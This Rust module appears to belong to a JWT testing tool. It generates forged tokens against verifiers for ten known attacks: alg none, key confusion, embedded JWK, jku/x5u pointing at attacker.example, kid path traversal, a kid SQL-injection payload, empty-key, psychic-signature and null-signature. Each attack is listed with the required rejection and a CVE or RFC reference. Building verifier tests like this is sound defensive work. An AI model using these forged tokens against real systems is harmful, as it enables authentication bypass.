//! The attack lab: from a token (and the key box's public key), the tokens a tester sends to a
//! verifier to see whether it falls for the known JWT attacks, each with what a correct
//! verifier must do and a one-line reference. Made in the worker (fresh keys, RustCrypto);
//! nothing is sent anywhere.

use serde_json::{json, Map, Value};

use super::alg::{Alg, Curve, Hash};
use super::base64url;
use super::error::Error;
use super::hmac;
use super::input::clean;
use super::key::export::{self, JwkLabels};
use super::key::private::PrivateKey;
use super::key::{self, Key, SecretEncoding};
use super::keygen::{self, KeyKind};
use super::sign;
use super::token::decode;

/// A kind of attack; `as_str` is the page's `data-attack` contract.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AttackKind {
    AlgNone,
    KeyConfusion,
    EmbeddedJwk,
    Jku,
    X5u,
    KidTraversal,
    KidSql,
    EmptyKey,
    Psychic,
    NullSignature,
}

impl AttackKind {
    pub const ALL: [AttackKind; 10] = [
        AttackKind::AlgNone,
        AttackKind::KeyConfusion,
        AttackKind::EmbeddedJwk,
        AttackKind::Jku,
        AttackKind::X5u,
        AttackKind::KidTraversal,
        AttackKind::KidSql,
        AttackKind::EmptyKey,
        AttackKind::Psychic,
        AttackKind::NullSignature,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            AttackKind::AlgNone => "alg-none",
            AttackKind::KeyConfusion => "key-confusion",
            AttackKind::EmbeddedJwk => "embedded-jwk",
            AttackKind::Jku => "jku",
            AttackKind::X5u => "x5u",
            AttackKind::KidTraversal => "kid-traversal",
            AttackKind::KidSql => "kid-sql",
            AttackKind::EmptyKey => "empty-key",
            AttackKind::Psychic => "psychic",
            AttackKind::NullSignature => "null-signature",
        }
    }

    pub fn from_name(name: &str) -> Option<AttackKind> {
        AttackKind::ALL
            .into_iter()
            .find(|kind| kind.as_str() == name)
    }

    /// What a correct verifier does with it, and the reference behind it.
    pub fn expectation(self) -> (&'static str, &'static str) {
        match self {
            AttackKind::AlgNone => ("Reject: a verifier that expects a signature never accepts alg none, in any spelling.", "RFC 8725 §3.1; CVE-2015-9235"),
            AttackKind::KeyConfusion => ("Reject: the algorithm comes from the verifier's configuration for this key, never from the token; an RSA or EC public key is not an HMAC secret.", "RFC 8725 §3.1, §2.1; CVE-2016-10555"),
            AttackKind::EmbeddedJwk => ("Reject: a key carried by the token proves nothing unless it is one the verifier already trusts. (It does verify against its own embedded key: that is the attack.)", "RFC 8725 §3.10; CVE-2018-0114"),
            AttackKind::Jku => ("Reject: fetch keys only from URLs configured in advance, never from one the token names.", "RFC 8725 §3.10; RFC 7515 §4.1.2"),
            AttackKind::X5u => ("Reject: a certificate fetched from a URL the token names must chain to a trusted anchor, and the URL must be allowed in advance.", "RFC 8725 §3.10; RFC 7515 §4.1.5"),
            AttackKind::KidTraversal => ("Reject: kid is an opaque name to look up, never a file path; an empty or /dev/null key must not verify anything.", "RFC 8725 §3.10; CVE-2018-1000531 family"),
            AttackKind::KidSql => ("Reject: kid is data, never part of a query; a verifier must not let the token choose its own secret.", "RFC 8725 §3.10; OWASP JWT cheat sheet"),
            AttackKind::EmptyKey => ("Reject: an empty HMAC key verifies tokens anyone can make.", "CVE-2019-20933"),
            AttackKind::Psychic => ("Reject: r and s must be in [1, n−1]; a zero signature matches every message on a broken verifier.", "CVE-2022-21449"),
            AttackKind::NullSignature => ("Reject: a missing signature is not a valid one.", "CVE-2020-28042"),
        }
    }
}

/// One token of the lab.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Attack {
    pub kind: AttackKind,
    /// What this variant is ("alg \"nOnE\", signature dropped", "HS256 with the SPKI PEM" …).
    pub variant: String,
    pub token: String,
    /// What to host at the attack URL (a JWK Set for jku, a certificate PEM for x5u).
    pub host: Option<String>,
}

/// Every attack the token and key box allow; `url` is where the tester hosts the jku/x5u
/// content (a placeholder is used when empty).
pub fn make(
    token: &str,
    key_text: &str,
    encoding: SecretEncoding,
    url: &str,
) -> Result<Vec<Attack>, Error> {
    let cleaned = clean(token);
    let decoded = decode(&cleaned.token);
    let header = decoded.header.as_ref().map_err(Clone::clone)?;
    let payload = decoded.segment(1).unwrap_or_default().to_owned();
    let original_signature = decoded.segment(2).unwrap_or_default().to_owned();
    let header = header.json.clone();
    let url = match url.trim() {
        "" => "https://attacker.example/keys",
        url => url,
    };
    let mut attacks = Vec::new();
    let mut push = |kind: AttackKind, variant: String, token: String, host: Option<String>| {
        attacks.push(Attack {
            kind,
            variant,
            token,
            host,
        })
    };

    for spelling in ["none", "None", "NONE", "nOnE"] {
        let input = signing_input(&with(&header, &[("alg", json!(spelling))], &[]), &payload);
        push(
            AttackKind::AlgNone,
            format!("alg {spelling:?}, signature dropped"),
            format!("{input}."),
            None,
        );
        push(
            AttackKind::AlgNone,
            format!("alg {spelling:?}, signature kept"),
            format!("{input}.{original_signature}"),
            None,
        );
    }

    if let Some(public) = public_key(key_text, encoding) {
        for (form, secret) in confusion_secrets(key_text, &public)? {
            for alg in [Alg::HS256, Alg::HS384, Alg::HS512] {
                let header = with(&header, &[("alg", json!(alg.name()))], &[]);
                let token = hmac_token(&header, &payload, alg, &secret);
                push(
                    AttackKind::KeyConfusion,
                    format!("{} with {form}", alg.name()),
                    token,
                    None,
                );
            }
        }
    }

    let fresh = keygen::generate(KeyKind::Ec(Curve::P256))?;
    let fresh_public = fresh.public();
    let labels = JwkLabels {
        kid: Some("attacker-key".to_owned()),
        alg: Some("ES256".to_owned()),
        key_use: Some("sig".to_owned()),
    };
    let jwk = export::public_jwk(&fresh_public, &labels);
    let es256 = |header: &Map<String, Value>| -> Result<String, Error> {
        let input = signing_input(header, &payload);
        let signature = sign::sign(Alg::ES256, &fresh, input.as_bytes())?;
        Ok(format!("{input}.{}", base64url::encode(&signature)))
    };
    let without_key_refs: &[&str] = &["kid", "jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"];
    let embedded = with(
        &header,
        &[("alg", json!("ES256")), ("jwk", jwk.clone())],
        without_key_refs,
    );
    push(
        AttackKind::EmbeddedJwk,
        "ES256, signed with a fresh key whose public half is in the header".to_owned(),
        es256(&embedded)?,
        None,
    );
    let jku = with(
        &header,
        &[
            ("alg", json!("ES256")),
            ("jku", json!(url)),
            ("kid", json!("attacker-key")),
        ],
        without_key_refs,
    );
    let jwks = serde_json::to_string_pretty(&export::jwks(jwk)).unwrap_or_default();
    push(
        AttackKind::Jku,
        format!("ES256, jku {url}"),
        es256(&jku)?,
        Some(jwks),
    );
    let x5u = with(
        &header,
        &[("alg", json!("ES256")), ("x5u", json!(url))],
        without_key_refs,
    );
    push(
        AttackKind::X5u,
        format!("ES256, x5u {url}"),
        es256(&x5u)?,
        Some(self_signed_certificate(&fresh)?),
    );

    for kid in ["../../../../../../../../dev/null", "/dev/null"] {
        let header = with(
            &header,
            &[("alg", json!("HS256")), ("kid", json!(kid))],
            &[],
        );
        push(
            AttackKind::KidTraversal,
            format!("HS256, kid {kid:?}, signed with the empty key"),
            hmac_token(&header, &payload, Alg::HS256, b""),
            None,
        );
    }
    let sql_secret = "attack-secret";
    let header_sql = with(
        &header,
        &[
            ("alg", json!("HS256")),
            ("kid", json!(format!("x' UNION SELECT '{sql_secret}' -- "))),
        ],
        &[],
    );
    push(
        AttackKind::KidSql,
        format!("HS256, signed with {sql_secret:?}, the value the kid's query returns"),
        hmac_token(&header_sql, &payload, Alg::HS256, sql_secret.as_bytes()),
        None,
    );

    let header_empty = with(&header, &[("alg", json!("HS256"))], &[]);
    push(
        AttackKind::EmptyKey,
        "HS256, signed with the empty key".to_owned(),
        hmac_token(&header_empty, &payload, Alg::HS256, b""),
        None,
    );

    for (alg, curve) in [
        (Alg::ES256, Curve::P256),
        (Alg::ES384, Curve::P384),
        (Alg::ES512, Curve::P521),
    ] {
        let header = with(&header, &[("alg", json!(alg.name()))], &[]);
        let input = signing_input(&header, &payload);
        let zeros = vec![0u8; 2 * curve.coordinate_len()];
        push(
            AttackKind::Psychic,
            format!("{}, r = s = 0", alg.name()),
            format!("{input}.{}", base64url::encode(&zeros)),
            None,
        );
    }

    let input = signing_input(&header, &payload);
    push(
        AttackKind::NullSignature,
        "the header's alg kept, the signature empty".to_owned(),
        format!("{input}."),
        None,
    );
    Ok(attacks)
}

/// The header with `set` members put in (replacing, in place) and `remove` members taken out.
fn with(header: &Map<String, Value>, set: &[(&str, Value)], remove: &[&str]) -> Map<String, Value> {
    let mut header: Map<String, Value> = header
        .iter()
        .filter(|(name, _)| !remove.contains(&name.as_str()))
        .map(|(name, value)| (name.clone(), value.clone()))
        .collect();
    for (name, value) in set {
        header.insert((*name).to_owned(), value.clone());
    }
    header
}

fn signing_input(header: &Map<String, Value>, payload: &str) -> String {
    let header = serde_json::to_string(header).unwrap_or_default();
    format!("{}.{payload}", base64url::encode(header.as_bytes()))
}

fn hmac_token(header: &Map<String, Value>, payload: &str, alg: Alg, secret: &[u8]) -> String {
    let input = signing_input(header, payload);
    let hash = alg.hash().unwrap_or(Hash::Sha256);
    let tag = hmac::sign(hash, secret, input.as_bytes());
    format!("{input}.{}", base64url::encode(&tag))
}

/// The key box's first public key (RSA or EC), if it holds one.
fn public_key(key_text: &str, encoding: SecretEncoding) -> Option<Key> {
    let keys = key::parse(key_text, encoding).ok()?;
    keys.entries
        .into_iter()
        .map(|entry| entry.key)
        .find(|key| matches!(key, Key::Rsa(_) | Key::Ec(_)))
}

/// The public key as the byte strings servers have been seen to use as the HMAC secret.
fn confusion_secrets(key_text: &str, public: &Key) -> Result<Vec<(String, Vec<u8>)>, Error> {
    let mut forms = Vec::new();
    let given = key_text.to_owned();
    if given.contains("-----BEGIN") {
        let other = match given.strip_suffix('\n') {
            Some(without) => (
                without.to_owned(),
                "the PEM as given, without its final newline",
            ),
            None => (
                format!("{given}\n"),
                "the PEM as given, with a final newline",
            ),
        };
        forms.push(("the PEM exactly as given".to_owned(), given.into_bytes()));
        forms.push((other.1.to_owned(), other.0.into_bytes()));
    }
    let spki_pem = export::public_pem(public)?;
    if let Key::Rsa(rsa) = public {
        use rsa::pkcs1::EncodeRsaPublicKey;
        let pkcs1 = rsa
            .to_public_key()
            .ok()
            .and_then(|key| key.to_pkcs1_pem(rsa::pkcs8::LineEnding::LF).ok());
        if let Some(pkcs1) = pkcs1 {
            forms.push(("the PKCS#1 PEM".to_owned(), pkcs1.into_bytes()));
        }
    }
    let der = spki_der(&spki_pem);
    forms.push(("the SPKI PEM".to_owned(), spki_pem.into_bytes()));
    if let Some(der) = der {
        forms.push(("the SPKI DER bytes".to_owned(), der));
    }
    let jwk = export::public_jwk(public, &JwkLabels::default());
    forms.push((
        "the JWK's JSON".to_owned(),
        serde_json::to_vec(&jwk).unwrap_or_default(),
    ));
    Ok(forms)
}

fn spki_der(pem: &str) -> Option<Vec<u8>> {
    der::pem::decode_vec(pem.as_bytes())
        .ok()
        .map(|(_, der)| der)
}

/// A self-signed certificate for the fresh key, as PEM, for the x5u URL to serve.
fn self_signed_certificate(key: &PrivateKey) -> Result<String, Error> {
    let refused = |detail: String| Error::KeyFormat {
        format: "attack certificate",
        detail,
    };
    let PrivateKey::Ec(ec) = key else {
        return Err(refused("the fresh key is not an EC key".to_owned()));
    };
    let super::key::private::EcPrivateKey::P256(signing) = ec.as_ref() else {
        return Err(refused("the fresh key is not P-256".to_owned()));
    };
    certificate::p256_self_signed(signing).map_err(refused)
}

mod certificate {
    use std::str::FromStr;
    use std::time::Duration;

    use der::EncodePem;
    use x509_cert::builder::{profile, Builder, CertificateBuilder};
    use x509_cert::name::Name;
    use x509_cert::serial_number::SerialNumber;
    use x509_cert::spki::SubjectPublicKeyInfoOwned;
    use x509_cert::time::{Time, Validity};

    /// "JWT attack lab" (C, O and CN, as the CA profile asks), valid from 2025-01-01 for ten years (fixed: the worker has no clock
    /// std can read): a tester's certificate, not a real one.
    pub fn p256_self_signed(key: &p256::ecdsa::SigningKey) -> Result<String, String> {
        let subject = Name::from_str("CN=JWT attack lab,O=JWT attack lab,C=XX")
            .map_err(|err| err.to_string())?;
        let public = p256::PublicKey::from(key.verifying_key());
        let spki = SubjectPublicKeyInfoOwned::from_key(&public).map_err(|err| err.to_string())?;
        let at = |unix: u64| {
            der::asn1::UtcTime::from_unix_duration(Duration::from_secs(unix))
                .map(Time::UtcTime)
                .map_err(|err| err.to_string())
        };
        let validity = Validity::new(at(1_735_689_600)?, at(2_051_222_400)?);
        let builder = CertificateBuilder::new(
            profile::cabf::Root::new(false, subject).map_err(|err| err.to_string())?,
            SerialNumber::from(1u32),
            validity,
            spki,
        )
        .map_err(|err| err.to_string())?;
        let certificate = builder
            .build::<_, p256::ecdsa::DerSignature>(key)
            .map_err(|err| err.to_string())?;
        certificate
            .to_pem(der::pem::LineEnding::LF)
            .map_err(|err| err.to_string())
    }
}
